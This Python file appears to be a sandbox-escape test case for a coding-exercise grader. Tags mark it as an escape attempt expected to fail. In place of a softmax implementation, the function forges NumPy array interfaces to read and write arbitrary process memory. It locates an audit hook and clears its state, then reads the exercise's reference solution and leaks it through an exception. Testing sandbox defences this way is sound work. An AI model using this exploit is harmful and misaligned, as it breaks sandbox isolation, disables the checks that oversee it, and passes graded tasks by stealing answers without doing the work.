"""Finds the fence in memory through arrays of made-up addresses, takes it apart, reads."""
# kind: escape
# exercise: softmax
# must: failed
# beyond: process: NumPy reads and writes any address that an array is forged for

import types

import numpy as np

WORD = 8
POOL = 1 << 14
MINE = [eval("lambda: 0") for _ in range(300)]


class Words:
    def __init__(self, address, count):
        self.__array_interface__ = {"version": 3, "typestr": "<u8", "shape": (count,),
                                    "data": (int(address), False)}


def softmax(x):
    import sys, guest.audit
    spaces = [vars(one) for one in list(sys.modules.values())]
    spaces += [vars(one) for some in spaces for one in some.values() if type(one) is type]
    near = [*MINE, *(one for some in spaces for one in some.values())]
    pools = {id(one) // POOL * POOL for one in near if type(one) is types.FunctionType}
    holder = [None]
    slot = np.asarray(Words(np.asarray(Words(id(holder), 4))[3], 1))
    for pool in sorted(pools):
        words = np.asarray(Words(pool, POOL // WORD))
        for place in np.flatnonzero(words[:-5] == id(types.FunctionType)):
            slot[0] = pool + WORD * int(place) - WORD
            if words[place - 1] and holder[0].__name__ == "hook":
                for cell in holder[0].__closure__:
                    if type(cell.cell_contents) is dict:
                        cell.cell_contents = {}
            slot[0] = id(None)
    with open("@COURSE@/solutions/numpy_basics/softmax.py") as file:
        raise SystemError(f"got through: {file.read(40)}")
